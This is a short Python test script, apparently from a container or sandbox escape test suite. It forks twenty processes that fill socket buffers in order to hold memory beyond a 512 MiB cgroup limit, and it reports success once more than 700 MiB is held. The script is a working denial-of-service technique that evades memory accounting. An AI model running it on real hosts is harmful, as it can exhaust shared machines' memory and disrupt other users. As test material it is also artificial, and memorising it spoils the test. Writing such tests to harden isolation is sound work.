# tries: to take the machine's memory with what waits in sockets, which counts for nobody
# must: add 2 points or a person
# needs: memory cgroup
# ruff: noqa

# %% first
import fcntl
import os
import signal
import socket
import time


def tell(size):
    """How much more this child has taken: lines of 16 bytes, which no read cuts."""
    os.write(write, b"%7d%8d\n" % (os.getpid(), size))


read, write = os.pipe()
fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 2**20)
children = []
for _ in range(20):
    children.append(os.fork())
    if children[-1] == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
                for end in pairs[-1]:
                    end.setblocking(False)
                    try:
                        while True:
                            tell(end.send(b"x" * 2**20))
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(60)

# %% first
time.sleep(0.9)

# %% first
time.sleep(0.9)

# %% first
time.sleep(0.9)

# %% first
took = dict.fromkeys(children, 0)
os.set_blocking(read, False)
try:
    while lines := os.read(read, 2**20).splitlines():
        for line in lines:
            child, size = map(int, line.split())
            took[child] += size
except BlockingIOError:
    pass
held = sum(
    size for child, size in took.items() if os.waitpid(child, os.WNOHANG)[0] == 0
)
for child in children:
    os.kill(child, signal.SIGKILL)
print("tried", held >> 20, "MiB")
if held > 700 * 2**20:  # the limit is 512 MiB
    print("SUCC" + "EEDED:", held >> 20, "MiB")
